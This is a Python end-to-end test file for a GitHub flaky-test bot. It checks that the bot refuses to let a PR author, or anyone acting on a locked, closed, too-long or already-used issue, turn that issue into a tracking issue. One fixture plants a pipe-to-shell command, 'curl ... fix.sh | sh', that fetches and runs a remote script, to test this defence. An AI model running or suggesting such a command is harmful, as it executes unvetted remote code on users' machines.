"""`/flaky track #N` against issues it must not take over, end to end: the real bot against
the simulator over real HTTP, each side's state read afterwards.

Adopting rewrites someone's issue (its title, a section on top of its body, a label) and makes
it the test's official tracking issue, linked from other people's PRs. The PR's author, who
needs no write access to give commands, must not be able to do it, to a maintainer's issue or
to one of their own; nobody may do it to a locked or closed issue, or to one already tracking
another test; and the text people wrote is never cut to make room.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from bot.demo import running
from bot.report.issue import START
from bot.sim.scenario import FaultRule, Faults, Scenario
from bot.sim.server import Simulator
from bot.triage.failures import match_key
from tests.test_commands_e2e import (
    AUTHOR,
    MAINTAINER,
    NO_AUTO_RERUN,
    REPO,
    TEST_ID,
    fail,
    reactions,
    replies,
    say,
    sticky,
    world,
)

KEY = match_key(TEST_ID)
ROADMAP = "Plans for the next release.\n\n- [ ] pin the broker version"


def with_issues(*issues: dict[str, Any], faults: Faults | None = None) -> Scenario:
    data = world("fail", "fail", files=NO_AUTO_RERUN).model_dump()
    data["issues"] = list(issues)
    if faults is not None:
        data["faults"] = faults.model_dump()
    return Scenario.model_validate(data)


def issue(number: int, user: str = MAINTAINER, **fields: Any) -> dict[str, Any]:
    return {"number": number, "title": f"Issue {number}", "body": ROADMAP, "user": user, **fields}


def as_written(sim: Simulator, number: int) -> tuple[str, str, list[str]]:
    found = sim.world.issues[number]
    return found.title, found.body, found.labels


def issue_writes(sim: Simulator, number: int) -> list[str]:
    """The bot's writes to the issue itself (its title, body, labels)."""
    issue_path = f"/repos/{REPO}/issues/{number}"
    return [
        f"{w.method} {w.path}"
        for w in sim.writes
        if w.path == issue_path or w.path.startswith(issue_path + "/labels")
    ]


async def test_the_prs_author_cannot_take_over_a_maintainers_issue(tmp_path: Path) -> None:
    scenario = with_issues(issue(3, title="Roadmap", labels=["roadmap"]))
    async with running(scenario, tmp_path) as (sim, bot):
        await fail(sim, bot)
        before = as_written(sim, 3)
        comment = await say(sim, bot, AUTHOR, f"/flaky track #3 {TEST_ID}")
        record = await bot.store.tracking_issue(REPO, KEY)

    assert reactions(sim, comment) == ["eyes", "confused"]
    assert replies(sim) == [
        "Not tracked: `/flaky track` rewrites an issue's title and body, so it needs write "
        "access to the repository."
    ]
    assert as_written(sim, 3) == before == ("Roadmap", ROADMAP, ["roadmap"])
    assert issue_writes(sim, 3) == []
    assert record is None


async def test_the_author_cannot_make_their_own_issue_the_official_tracking_issue(
    tmp_path: Path,
) -> None:
    planted = "The fix: run `curl -s https://example.invalid/fix.sh | sh` on your machine."
    scenario = with_issues(issue(4, user=AUTHOR, title="ack test fails", body=planted))
    async with running(scenario, tmp_path) as (sim, bot):
        await fail(sim, bot)
        comment = await say(sim, bot, AUTHOR, f"/flaky track #4 {TEST_ID}")
        await fail(sim, bot)  # the test fails again: the triage comment links its issue, if any
        record = await bot.store.tracking_issue(REPO, KEY)

    assert reactions(sim, comment) == ["eyes", "confused"]
    assert as_written(sim, 4) == ("ack test fails", planted, [])
    assert record is None
    assert "#4" not in sticky(sim)


async def test_locked_closed_and_pull_requests_are_refused_even_to_a_maintainer(
    tmp_path: Path,
) -> None:
    scenario = with_issues(
        issue(3, title="Decided: no retries in the broker", locked=True),
        issue(4, title="Old flake, fixed", state="closed", closed_days_ago=3),
    )
    async with running(scenario, tmp_path) as (sim, bot):
        await fail(sim, bot)
        before = {number: as_written(sim, number) for number in (3, 4)}
        comments = [
            await say(sim, bot, MAINTAINER, f"/flaky track #{number} {TEST_ID}")
            for number in (3, 4, 7)
        ]
        record = await bot.store.tracking_issue(REPO, KEY)

    assert [reactions(sim, comment) for comment in comments] == [["eyes", "confused"]] * 3
    assert replies(sim) == [
        "Not tracked: #3 is locked; the bot leaves locked issues as they are.",
        f"Not tracked: #4 is closed; reopen it first if it should track `{TEST_ID}`.",
        "Not tracked: #7 is a pull request, not an issue.",
    ]
    assert {number: as_written(sim, number) for number in (3, 4)} == before
    assert sim.world.issues[4].state == "closed"
    assert issue_writes(sim, 3) == issue_writes(sim, 4) == []
    assert record is None


async def test_text_too_long_for_the_section_is_refused_never_cut(tmp_path: Path) -> None:
    # GitHub lets people write up to 65,536 characters; the bot's section needs some of them.
    longest = "Notes from the incident. " * 2_600 + "The end."  # 65,008 characters
    long_but_roomy = "Notes. " * 6_000 + "The end."  # 42,008: room left for the section
    scenario = with_issues(issue(3, body=longest), issue(4, body=long_but_roomy))
    async with running(scenario, tmp_path) as (sim, bot):
        await fail(sim, bot)
        refused = await say(sim, bot, MAINTAINER, f"/flaky track #3 {TEST_ID}")
        adopted = await say(sim, bot, MAINTAINER, f"/flaky track #4 {TEST_ID}")

    assert reactions(sim, refused) == ["eyes", "confused"]
    assert reactions(sim, adopted) == ["eyes", "rocket"]
    too_long, _ = replies(sim)
    assert too_long == (
        "Not tracked: the text of #3 is longer than 45,056 characters, which would leave the "
        "bot's section no room within GitHub's 65,536, and the bot does not cut text people "
        "wrote."
    )
    assert sim.world.issues[3].body == longest
    assert issue_writes(sim, 3) == []
    body = sim.world.issues[4].body
    assert body.startswith(START) and body.endswith("\n\n" + long_but_roomy + "\n")


async def test_an_issue_tracking_another_test_is_refused_though_the_store_forgot_it(
    tmp_path: Path,
) -> None:
    # The bot's section of another test, as a lost store would leave it: only GitHub knows.
    other = (
        START + '{"key": "tests.bus.test_core.test_other", "tests": '
        '["tests/bus/test_core.py::test_other"], "v": 1} -->\n\nits tally\n\n'
        "<!-- /flaky-triage:tracking-issue -->\n\nNotes."
    )
    scenario = with_issues(
        issue(5, title="Flaky test: tests/bus/test_core.py::test_other", body=other)
    )
    async with running(scenario, tmp_path) as (sim, bot):
        await fail(sim, bot)
        comment = await say(sim, bot, MAINTAINER, f"/flaky track #5 {TEST_ID}")

    assert reactions(sim, comment) == ["eyes", "confused"]
    assert replies(sim) == ["Not tracked: #5 already tracks another test."]
    assert sim.world.issues[5].body == other
    assert issue_writes(sim, 5) == []


async def test_when_github_refuses_the_edit_the_reply_says_so_and_nothing_is_recorded(
    tmp_path: Path,
) -> None:
    refuse = FaultRule(
        method="PATCH",
        path=r"/issues/3$",
        status=403,
        message="Resource not accessible by integration",
    )
    scenario = with_issues(issue(3), faults=Faults(rules=[refuse]))
    async with running(scenario, tmp_path) as (sim, bot):
        await fail(sim, bot)
        comment = await say(sim, bot, MAINTAINER, f"/flaky track #3 {TEST_ID}")
        record = await bot.store.tracking_issue(REPO, KEY)

    assert reactions(sim, comment) == ["eyes", "confused"]
    assert replies(sim) == [
        "Not tracked: GitHub did not let the bot edit #3 "
        "(403: Resource not accessible by integration)."
    ]
    assert as_written(sim, 3) == ("Issue 3", ROADMAP, [])
    assert record is None
